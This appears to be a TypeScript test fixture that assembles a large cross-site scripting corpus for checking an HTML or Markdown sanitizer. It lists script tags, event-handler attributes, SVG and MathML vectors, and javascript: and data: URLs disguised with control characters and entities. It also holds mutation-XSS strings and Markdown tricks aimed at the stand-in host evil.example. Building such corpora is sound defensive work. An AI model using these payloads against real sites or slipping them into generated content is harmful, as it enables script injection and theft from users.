/**
 * Texts that try to run code, load something or navigate. Each is tried in every format. Code that runs sets `__ran`;
 * requests go to evil.example.
 */
const RUN = "window.__ran=1";
const EVIL = "https://evil.example";

type Kinds = { readonly [kind: string]: readonly string[] };

/** Tags that run, load, or change the page around them. */
const TAGS: Kinds = {
  scripts: [
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<script src="${EVIL}/x.js"></script>`,
    `<script type="module">${RUN}</script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script/x>${RUN}</script>`,
    `<script\n>${RUN}</script\n>`,
    `</p><script>${RUN}</script>`,
  ],
  pictures: [
    `<img src=x onerror=${RUN}>`,
    `<img src=x onerror="${RUN}">`,
    `<IMG SRC=x OnErRoR='${RUN}'>`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src="x" onerror="${RUN}" `,
    `<img src="${EVIL}/i.png">`,
    `<img srcset="${EVIL}/i.png 2x" src="">`,
    `<img src=x onload=${RUN} lowsrc=${EVIL}/l dynsrc=${EVIL}/d>`,
    `<image src=x onerror=${RUN}>`,
  ],
  svg: [
    `<svg onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
    `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  ],
  math: [
    `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  ],
  frames: [
    `<iframe src="javascript:${RUN}"></iframe>`,
    `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
    `<iframe src="${EVIL}"></iframe>`,
    `<frameset onload=${RUN}><frame src="${EVIL}"></frameset>`,
    `<portal src="${EVIL}"></portal>`,
  ],
  objects: [
    `<object data="javascript:${RUN}"></object>`,
    `<object data="${EVIL}/o.swf"><param name="x" value="y"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<embed src="${EVIL}/e.swf">`,
    `<applet code="${EVIL}/a.class"></applet>`,
  ],
  sheets: [
    `<link rel=stylesheet href="${EVIL}/s.css">`,
    `<link rel=prefetch href="${EVIL}/p">`,
    `<link rel=import href="${EVIL}/i.html">`,
    `<style>@import "${EVIL}/s.css";</style>`,
    `<style>body{background:url(${EVIL}/b.png)}</style>`,
  ],
  heads: [
    `<base href="${EVIL}/">`,
    `<meta http-equiv=refresh content="0;url=${EVIL}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<body onload=${RUN}>`,
    `<html manifest="${EVIL}/m">`,
  ],
  forms: [
    `<form action="${EVIL}"><input name=x><button>go</button></form>`,
    `<form><button formaction="javascript:${RUN}">x</button></form>`,
    `<input autofocus onfocus=${RUN}>`,
    `<select autofocus onfocus=${RUN}></select>`,
    `<textarea autofocus onfocus=${RUN}></textarea>`,
    `<textarea><img src=x onerror=${RUN}></textarea>`,
    `<button onclick=${RUN}>x</button>`,
  ],
  media: [
    `<video><source onerror=${RUN}></video>`,
    `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay></video>`,
    `<audio src=x onerror=${RUN}>`,
  ],
  "handlers of rare tags": [
    `<details open ontoggle=${RUN}>x</details>`,
    `<marquee onstart=${RUN}>x</marquee>`,
    `<dialog open onclose=${RUN}>x</dialog>`,
    `<x-thing onclick=${RUN}>x</x-thing>`,
  ],
  "text that is not read as markup": [
    `<template><script>${RUN}</script></template>`,
    `<template shadowrootmode="open"><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<xmp><img src=x onerror=${RUN}></xmp>`,
    `<plaintext><img src=x onerror=${RUN}>`,
    `<noembed><img src=x onerror=${RUN}></noembed>`,
  ],
  "comments and declarations": [
    `<?php echo "<script>${RUN}</script>" ?>`,
    `<!--><script>${RUN}</script>-->`,
    `<!--<img src="--><img src=x onerror=${RUN}>">`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<!DOCTYPE html [<!ENTITY x SYSTEM "${EVIL}">]>`,
  ],
};

/** Attributes on allowed tags. */
const ATTRIBUTES: Kinds = {
  handlers: [
    `<p onclick=${RUN}>x</p>`,
    `<p onmouseover="${RUN}" onpointerenter='${RUN}'>x</p>`,
    `<b ONFOCUS=${RUN} tabindex=1 autofocus>x</b>`,
    `<p\fonclick=${RUN}>x</p>`,
    `<p/onclick=${RUN}>x</p>`,
    `<p"onclick=${RUN}>x</p>`,
    `<p popover onbeforetoggle=${RUN}>x</p>`,
    `<p dir="ltr onclick=${RUN}" lang="x onclick">x</p>`,
  ],
  styles: [
    `<div style="background:url(${EVIL}/b.png)">x</div>`,
    `<div style="position:fixed;inset:0;z-index:9999">over all</div>`,
    `<span style='width:expression(${RUN})'>x</span>`,
  ],
  names: [
    `<div id="root">x</div>`,
    `<p id=outcome name=outcome>x</p>`,
    `<p class="loom-button">x</p>`,
    `<p contenteditable>x</p>`,
    `<p is="x-thing" slot="y" part="z">x</p>`,
    `<p itemscope itemtype="${EVIL}">x</p>`,
    `<a name=x id=y>x</a>`,
    `<p data-x="y" aria-hidden=true role=alert>x</p>`,
  ],
  "addresses in attributes": [
    `<td background="${EVIL}/b.png">x</td>`,
    `<table background="${EVIL}/b.png"><tr><td onclick=${RUN}>x</td></tr></table>`,
    `<ol start="1 onclick=${RUN}"><li value="javascript:${RUN}">x</li></ol>`,
    `<blockquote cite="javascript:${RUN}">x</blockquote>`,
    `<q cite="${EVIL}">x</q>`,
    `<del cite="${EVIL}" datetime="x">x</del>`,
    `<a href="https://ok.example" ping="${EVIL}/p" onclick=${RUN}>x</a>`,
    `<a href="https://ok.example" target=_top rel=opener download>x</a>`,
    `<p title="</p><script>${RUN}</script>">x</p>`,
  ],
};

/** URLs with other schemes, or disguised. */
const ADDRESSES: Kinds = {
  javascript: [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    ` javascript:${RUN}`,
    `javascript:/*--></title></style></textarea></script>*/${RUN}`,
    `javascript://%0a${RUN}`,
    `javascript://https://ok.example/%0a${RUN}`,
  ],
  "javascript, hidden by characters": [
    `java\tscript:${RUN}`,
    `java\nscript:${RUN}`,
    `java\rscript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `\u0000javascript:${RUN}`,
    `\u00a0javascript:${RUN}`,
    `\u200bjavascript:${RUN}`,
    `\u202ejavascript:${RUN}`,
    `javascript\u003a${RUN}`,
  ],
  "javascript, hidden by entities": [
    `&#106;avascript:${RUN}`,
    `&#x6A;avascript:${RUN}`,
    `&#0000106avascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `java&Tab;script:${RUN}`,
    `java&NewLine;script:${RUN}`,
  ],
  data: [
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg onload=${RUN}>`,
    `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9fcmFuPTE+`,
    `data:image/png;base64,x" onerror="${RUN}`,
  ],
  "other schemes": [
    `vbscript:msgbox(1)`,
    `file:///etc/passwd`,
    `blob:https://ok.example/x`,
    `filesystem:https://ok.example/x`,
    `about:blank`,
    `view-source:https://ok.example`,
    `ws://evil.example`,
    `ftp://evil.example/x`,
    `tel:123`,
    `intent://x#Intent;scheme=javascript;end`,
    `x:javascript:${RUN}`,
    `feed:javascript:${RUN}`,
    `jar:javascript:${RUN}!/`,
  ],
  elsewhere: [
    `//evil.example/x`,
    `/\\evil.example`,
    `\\\\evil.example\\x`,
    `../v1/sessions`,
    `#root`,
    `?x=y`,
    `https:evil.example`,
    `https://ok.example@evil.example/`,
    `https://user:pass@evil.example/`,
    `https://evil.example\u202egnp.x`,
  ],
};

/** Where a URL may occur. */
const PLACES: { readonly [place: string]: (address: string) => string } = {
  alone: (address) => address,
  "in a link": (address) => `[x](${address})`,
  "in a picture": (address) => `![x](${address})`,
  "in tags": (address) => `<a href="${address}">x</a> <img src="${address}" alt=y>`,
};

/** Markdown tricks, and markup that changes when it is parsed twice. */
const TRICKS: Kinds = {
  "Markdown links": [
    `[x](<javascript:${RUN}>)`,
    `[x](javascript&#58;${RUN})`,
    `[x]\n\n[x]: javascript:${RUN}`,
    `[x][y]\n\n[y]: <data:text/html,<script>${RUN}</script>>`,
    `<javascript:${RUN}>`,
    `<data:text/html,x>`,
    `[![x](${EVIL}/i.png)](javascript:${RUN})`,
    `[x](https://ok.example "\\" onmouseover=\\"${RUN}")`,
    `[x](https://ok.example" onmouseover="${RUN})`,
    `[<img src=x onerror=${RUN}>](https://ok.example)`,
    `[x](https://ok.example)<script>${RUN}</script>`,
    `www.evil.example"onmouseover=${RUN}`,
    `http://ok.example/<script>${RUN}</script>`,
    `mailto:x@y.z?body=<script>${RUN}</script>`,
  ],
  "Markdown pictures": [
    `![x](javascript:${RUN})`,
    `![x](${EVIL}/i.png)`,
    `![x](x "onerror=${RUN}")`,
    `![x" onerror="${RUN}](https://ok.example/i.png)`,
  ],
  code: [
    "```html\n<script>" + RUN + "</script>\n```",
    '```js" onmouseover="' + RUN + "\nx\n```",
    "```<script>" + RUN + "</script>\nx\n```",
    `\`<img src=x onerror=${RUN}>\``,
    `    <script>${RUN}</script>`,
  ],
  "Markdown blocks": [
    `| <script>${RUN}</script> | <img src=x onerror=${RUN}> |\n|---|---|\n| <b onclick=${RUN}>x</b> | [x](javascript:${RUN}) |`,
    `# <img src=x onerror=${RUN}>`,
    `- <details open ontoggle=${RUN}>\n- [ ] <img src=x onerror=${RUN}>`,
    `> <iframe src=javascript:${RUN}>`,
  ],
  formulas: [
    `$<img src=x onerror=${RUN}>$`,
    `$$\\href{javascript:${RUN}}{x}$$`,
    `\\(\\text{<script>${RUN}</script>}\\)`,
    `$\\class{x" onclick="${RUN}}{y}$`,
  ],
  "overlapping tags": [
    `<a href="javascript:${RUN}"><b>x</a></b>`,
    `<b><a href=javascript:${RUN}>*x*</b></a>`,
    `*<i title="*<img src=x onerror=${RUN}>">x</i>`,
    `<b>\n\n<script>${RUN}</script>\n\n</b>`,
    `<div>\n\n[x](javascript:${RUN})\n\n</div>`,
    `<table><a href="javascript:${RUN}">x</a><tr><td>y</td></tr></table>`,
    `<p>${"<b>".repeat(600)}<img src=x onerror=${RUN}>`,
  ],
  "markup that changes when it is parsed again": [
    `<noscript><style></noscript><img src=x onerror=${RUN}></style>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  ],
  entities: [
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
    `&#60;img src=x onerror=${RUN}&#62;`,
    `\u003cscript\u003e${RUN}\u003c/script\u003e`,
    `\ufeff<script>${RUN}</script>`,
    `＜script＞${RUN}＜/script＞`,
  ],
  "templates and prototypes": [
    `<a href="__proto__">x</a>[__proto__]\n\n[__proto__]: javascript:${RUN}`,
    `[constructor]\n\n<constructor onclick=${RUN}>x</constructor>`,
    `{{constructor.constructor('${RUN}')()}}`,
    `\${${RUN}}`,
  ],
};

/** Texts by kind. URLs are also split by where they occur. */
export const XSS_KINDS: ReadonlyMap<string, readonly string[]> = new Map([
  ...Object.entries({ ...TAGS, ...ATTRIBUTES, ...TRICKS }),
  ...Object.entries(ADDRESSES).flatMap(([kind, addresses]) =>
    Object.entries(PLACES).map(([place, put]) => [`${kind}, ${place}`, addresses.map(put)] as const),
  ),
]);

export const XSS_CORPUS: readonly string[] = [...XSS_KINDS.values()].flat();
